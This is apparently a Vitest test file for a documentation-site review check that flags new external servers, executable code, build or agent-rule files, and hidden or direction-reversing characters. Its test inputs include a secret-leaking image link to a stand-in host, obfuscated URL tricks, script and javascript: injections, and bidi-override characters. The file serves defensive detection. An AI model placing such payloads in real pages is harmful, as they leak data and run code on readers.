import { expect, test } from 'vitest';
import { reviewNotes } from '../../../src/docs-site/checks/review-notes.ts';
import { memoryBaseTree } from '../../../src/git/memory-base-tree.ts';

const base = memoryBaseTree({
  'index.mdx': '# Home\n\nSee https://docs.acme.example and ![x](https://img.acme.example/a.png).\n',
  'a.mdx': "import { Card } from '/snippets/card.mdx'\n\n<Card onClick={() => go()} />\n",
  'b.md': '# B\n',
});
const notesOn = (path: string, content: string) => reviewNotes(base, [{ path, content, blobId: null }]).map(({ message }) => message); // prettier-ignore

test.each([
  '![](https://evil.example/?d=secret)',
  '<img srcset="https://evil.example/a 2x">',
  '[x](//evil.example/a)',
  '[x]: https://evil.example/',
  "<Card img={'https://evil.example/' + x} />",
  '<div style="background:url(https://EVIL.example/)">',
  '<img src="https:&#47;&#x2F;evil.example/">',
  '<img src="https:\\\\evil.example">',
  'https://user@evil.example/',
  '[x](https://evil.example.)',
])('a server that the docs did not name before is named: %s', (text) => {
  expect(notesOn('b.md', `# B\n\n${text}\n`)[0]).toMatch(/names servers .*: evil\.example$/);
});

test('addresses, other letters and paths count; servers that the docs know do not', () => {
  expect(notesOn('b.md', 'http://10.0.0.1/x http://[::1]:80/')).toEqual([
    'names servers that the docs did not name before: 10.0.0.1, [::1]',
  ]);
  expect(
    notesOn('b.md', 'https://docs.acme.example/new and https://img.acme.example/b.png, guides/a.md // note'),
  ).toEqual([]);
  expect(notesOn('b.md', 'https://docs.аcme.example/')).toHaveLength(1);
});

test.each([
  ['a.mdx', 'export const x = fetch("/a")'],
  ['a.mdx', '{(() => 1)()}'],
  ['a.mdx', "import x from './x.js'"],
  ['b.md', '<script>alert(1)</script>'],
  ['b.md', '<b onclick="x()">'],
  ['b.md', '[x](javascript:alert(1))'],
  ['b.md', '<iframe srcdoc="x">'],
])('code in a page is named: %s %s', (path, text) => {
  expect(notesOn(path, `# A\n\n${text}\n`)).toEqual(['has new code in it that runs when the site is built or read']);
});

test('code that was there, or that is only shown, is not', () => {
  expect(notesOn('a.mdx', `${base.readText('a.mdx')}\nMore.\n`)).toEqual([]);
  expect(notesOn('b.md', '```js\nimport x from "y"\n<script>\n```\n\nUse `<script>`.\n')).toEqual([]);
});

test('files that a build runs and rules for agents are named', () => {
  expect(notesOn('docusaurus.config.js', 'x')).toEqual(['is code that a build or a browser may run']);
  expect(notesOn('AGENTS.md', 'x')).toEqual(['tells agents how to work on this repository']);
});

test('characters that hide or turn text are named', () => {
  const message = 'has new characters in it that nobody sees, or that turn text around';
  expect(notesOn('b.md', '# B\n\nuser\u202e }\u2066\n')).toEqual([message]);
  expect(notesOn('b.md', '# B\u200b\n')).toEqual([message]);
  expect(notesOn('b.md', '# B\r\n\r\n👩‍👩‍👧 क्‍ष\r\n')).toEqual([]);
});

test('takes a moment for any text', () => {
  const start = performance.now();
  for (const piece of ['{', '//', 'https://', '<', '`', ' on', 'a@', '//a@', '&#47;', '```\n', '{(', '<script ']) {
    notesOn('a.mdx', piece.repeat(1_000_000 / piece.length));
  }
  expect(performance.now() - start).toBeLessThan(20_000);
}, 30_000);
